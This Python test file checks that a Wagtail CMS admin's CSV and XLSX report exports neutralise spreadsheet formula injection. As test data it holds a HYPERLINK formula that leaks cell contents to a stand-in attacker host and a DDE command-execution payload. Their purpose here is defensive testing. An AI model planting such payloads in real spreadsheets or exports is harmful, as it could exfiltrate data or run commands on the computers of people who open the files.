"""Every spreadsheet the admin exports keeps formulas out: in CSV a cell that a spreadsheet
would run (=, +, -, @, tab, carriage return first) gets a leading apostrophe; in XLSX such
text stays a text cell. Our reports and Wagtail's own, through the real admin views."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from wagtail.models import Page, Workflow

from cms.exports import csv_safe
from tests.tasks.test_admin_bounces import bounce

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://attacker.example.org/?leak="&A1,"Open")'
PHONE = "+44 333 013 8891"
DIAGNOSTIC = "@SUM(1+1)*cmd|' /C calc'!A0"  # from a remote mail server: anyone's words
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

EXPORTS = {
    "listing reviews": "tasks_admin:review_report",
    "contacts that bounce": "bounces_admin:report",
    "aging pages": "wagtailadmin_reports:aging_pages",
    "site history": "wagtailadmin_reports:site_history",
    "locked pages": "wagtailadmin_reports:locked_pages",
    "workflows": "wagtailadmin_reports:workflow",
}


@pytest.fixture
def hostile(listing, admin_user):
    """A service titled with a formula and one titled with a phone number, both in
    moderation (for Workflows), locked (for Locked pages) and published (for Aging pages);
    the first has a contact whose mail bounces with a diagnostic that is a formula too (for
    Contacts that bounce)."""
    formula = listing(
        "service", 100, title=FORMULA, contacts=[{"name": "Ann", "email": "ann@school.test"}]
    )
    phone = listing("service", 100, title=PHONE)
    for page in (formula, phone):
        page.save_revision(user=admin_user)
        Workflow.objects.get(name="Moderators approval").start(page, admin_user)
    Page.objects.filter(pk__in=[formula.pk, phone.pk]).update(
        locked=True, locked_by=admin_user, last_published_at=timezone.now()
    )
    bounce("ann@school.test", diagnostic=DIAGNOSTIC)
    return formula, phone


def download(client, url_name, export_format) -> bytes:
    response = client.get(reverse(url_name), {"export": export_format})
    assert response.status_code == 200
    assert f".{export_format}" in response["Content-Disposition"]
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("url_name", EXPORTS.values(), ids=EXPORTS.keys())
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(admin_client, hostile, url_name):
    rows = list(csv.reader(io.StringIO(download(admin_client, url_name, "csv").decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    # Quoted, not dropped: the text is all there, after the apostrophe.
    if url_name == "bounces_admin:report":
        assert "'" + DIAGNOSTIC in cells
    else:
        assert "'" + PHONE in cells  # a spreadsheet shows +44 333 013 8891
        assert any(cell.startswith("'" + FORMULA) for cell in cells)


@pytest.mark.parametrize("url_name", EXPORTS.values(), ids=EXPORTS.keys())
def test_xlsx_keeps_such_text_as_text(admin_client, hostile, url_name):
    workbook = openpyxl.load_workbook(io.BytesIO(download(admin_client, url_name, "xlsx")))
    cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value: cell.data_type for cell in cells if isinstance(cell.value, str)}
    if url_name == "bounces_admin:report":
        assert texts[DIAGNOSTIC] == "s"  # as it came, as text
    else:
        assert texts[PHONE] == "s"
        assert any(text.startswith(FORMULA) and kind == "s" for text, kind in texts.items())


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 333 013 8891", "'+44 333 013 8891"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Art club", "Art club"),
        ("ann@school.test", "ann@school.test"),
        ("", ""),
        (-5, -5),  # numbers are numbers, not formulas
        (None, None),
    ],
)
def test_the_rule_for_one_cell(value, written):
    assert csv_safe(value) == written
